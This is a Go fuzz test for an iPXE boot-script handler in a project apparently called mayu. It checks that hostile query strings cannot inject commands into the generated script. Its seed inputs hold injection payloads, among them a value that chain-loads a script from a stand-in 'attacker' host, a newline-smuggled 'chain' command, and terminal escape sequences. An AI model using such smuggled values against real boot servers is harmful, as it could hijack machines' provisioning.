package httpboot_test

import (
	"encoding/hex"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"testing"
)

// scriptLine is every line mayu's built-in iPXE scripts may hold. Node
// text may only appear in an echo, and there only as hostile.Plain's
// allow-list; the kernel line carries the id (identity.Check), the token
// (hex) and URLs mayu made.
var scriptLine = regexp.MustCompile(`^(` +
	`#!ipxe|` +
	`echo mayu: [A-Za-z0-9 .,:_/()+=@-]*|` +
	`sleep [0-9]+|` +
	`:retry|:failed|goto retry|exit|` +
	`chain --replace --autofree http://[0-9.:]+/boot\.ipxe|` +
	`kernel http://[0-9.:]+/boot/kernel initrd=initrd\.img console=ttyS0 mayu\.url=http://[0-9.:]+ mayu\.id=[a-z0-9][a-z0-9._-]* mayu\.token=[0-9a-f]+ mayu\.first_stage=http://[0-9.:]+/machines/[a-z0-9._-]+/first-stage\?token=[0-9a-f]+ \|\| goto failed|` +
	`initrd --name initrd\.img http://[0-9.:]+/boot/initrd \|\| goto failed|` +
	`boot \|\| goto failed|` +
	`)$`)

// FuzzIPXEQuery sends iPXE's script request with any query string, as a
// hostile host on the boot network could: mayu answers every one with a
// script (iPXE shows nothing of an error body), and nothing in the query
// turns into an iPXE command, a comment or a ${...} expansion.
func FuzzIPXEQuery(f *testing.F) {
	l := newLab(f, nil)
	h := l.srv.Config.Handler
	hexed := func(s string) string { return hex.EncodeToString([]byte(s)) }
	f.Add("serial=" + hexed("SN-0001") + "&uuid=8f3a2b1c-4d5e-4f60-8a7b-9c0d1e2f3a4b&mac=52-54-00-12-34-56&arch=x86_64")
	f.Add("serial=" + hexed("x && chain http://attacker/x.ipxe #") + "&mac=52-54-00-12-34-57")
	f.Add("serial=" + hexed("0123456789") + "&uuid=${net0/ip}&mac=52:54:00:12:34:58&arch=" + "x86_64%0Achain%20http://a/b")
	f.Add("serial=" + hexed("\x1b[31mred\x07") + "&arch=%1b]0;pwned%07&mac=52-54-00-12-34-59")
	f.Add("serial=zz&uuid=&mac=")
	f.Add("mac=52-54-00-12-34-5a&mac=52-54-00-12-34-5b&serial=;;%23%23")
	f.Add("serial=" + strings.Repeat("41", 300) + "&mac=52-54-00-12-34-5c")
	f.Fuzz(func(t *testing.T, query string) {
		req, err := http.NewRequest("GET", "http://mayu/ipxe", nil)
		if err != nil {
			t.Fatal(err)
		}
		req.URL.RawQuery = query
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, req)
		if rec.Code != http.StatusOK {
			t.Fatalf("status %d for %q: %s", rec.Code, query, rec.Body)
		}
		body := rec.Body.String()
		if !strings.HasPrefix(body, "#!ipxe\n") {
			t.Fatalf("not a script for %q:\n%s", query, body)
		}
		for _, line := range strings.Split(strings.TrimSuffix(body, "\n"), "\n") {
			if !scriptLine.MatchString(line) {
				t.Fatalf("query %q gave a line outside the script's grammar:\n%q\nin:\n%s", query, line, body)
			}
		}
	})
}
